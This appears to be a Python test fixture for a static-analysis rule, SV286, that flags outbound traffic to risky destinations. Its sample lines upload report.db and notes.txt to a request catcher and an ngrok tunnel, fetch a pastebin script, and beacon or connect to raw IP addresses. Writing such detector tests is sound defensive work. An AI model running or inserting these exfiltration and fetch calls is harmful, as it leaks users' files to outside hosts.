import socket
import urllib.request
import requests

HOOK = "https://webhook.site/3f2a9c"
requests.post(HOOK, files={"f": open("report.db", "rb")})  # want "SV286: sends data to webhook.site [(]request catcher[)]"
script = requests.get("https://pastebin.com/raw/x8Yz").text  # want "SV286: fetches from pastebin.com [(]paste site[)]"
urllib.request.urlopen("http://198.51.100.20:8080/beacon", data=b"hi")  # want "SV286: sends data to 198.51.100.20 [(]raw IP address[)]"
base = "https://abc123.ngrok-free.app"
requests.put(base + "/upload", data=open("notes.txt").read())  # want "SV286: sends data to abc123.ngrok-free.app [(]tunnel service[)]"
s = socket.create_connection(("203.0.113.77", 443))  # want "SV286: connects to 203.0.113.77 [(]raw IP address[)]"
requests.post("https://discord.com/api/webhooks/123/abc", json={"content": "done"})  # want "SV286: sends data to discord.com [(]request catcher[)]"
